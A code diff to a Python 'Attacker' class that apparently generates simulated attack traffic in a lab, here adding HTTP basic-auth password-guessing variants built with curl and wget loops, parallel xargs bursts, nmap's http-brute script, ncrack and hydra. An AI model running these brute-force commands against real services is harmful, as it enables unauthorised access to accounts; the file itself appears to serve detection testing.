@@ -64,6 +64,11 @@ class Attacker:
                                 for _ in range(count)))
         return path
 
+    def users(self, name, *names):
+        path = WORK / f"users-{name}"
+        path.write_text("".join(f"{one}\n" for one in names))
+        return path
+
     # --- scans -----------------------------------------------------------------------------------------------------
 
     def port_scan(self, host, target, first, count, flavour):
@@ -132,10 +137,20 @@ class Attacker:
     def http_guessing(self, host, target, port, count, flavour):
         goal = self.site.v4(target)
         words, began = self.words(f"http-{host}-{flavour}", count), time.time()
-        loop = (f"while read word; do curl -q -s -o /dev/null --max-time 5 -u \"erin:$word\" http://{goal}:{port}/private/; "
-                f"sleep 0.4; done < {words}")
+        page = f"http://{goal}:{port}/private/"
+        curl = "curl -q -s -o /dev/null --max-time 5 -u"
+        names = self.users("http", "erin")
+        nmap = ["nmap", "-n", "-Pn", "-sT", "-p", port, "--script", "+http-brute"]
+        brute = f"http-brute.path=/private/,userdb={names},passdb={words},unpwdb.timelimit=0"
         command = {
-            "loop": ["sh", "-c", loop],
+            "loop": ["sh", "-c", f"while read word; do {curl} \"erin:$word\" {page}; sleep 0.4; done < {words}"],
+            "burst": ["xargs", "-a", words, "-P", "3", "-I{}", *curl.split(), "frank:{}", "-H", "Connection: close", page],
+            "challenge": ["sh", "-c", f"while read word; do {curl} \"heidi:$word\" --anyauth {page}; sleep 0.2; done < {words}"],
+            "challenge-burst": ["xargs", "-a", words, "-P", "4", "-I{}", *curl.split(), "ivan:{}", "--anyauth", page],
+            "wget": ["sh", "-c", f"while read word; do wget -q -t 1 -T 5 -O /dev/null --user grace --password \"$word\" {page}; "
+                     f"done < {words}"],
+            "nmap": [*nmap, "--script-args", f"{brute},brute.threads=2,brute.delay=1", goal],
+            "nmap-fast": [*nmap, "--script-args", f"{brute},brute.threads=5", goal],
             "ncrack-slow": ["ncrack", "--user", "carol", "-P", words, "-g", "cl=1,CL=2,at=1,cd=600ms,path=/private/",
                             f"http://{goal}:{port}"],
             "hydra": ["hydra", "-I", "-q", "-l", "alice", "-P", words, "-t", "4", "-s", port, goal, "http-get", "/private/"],
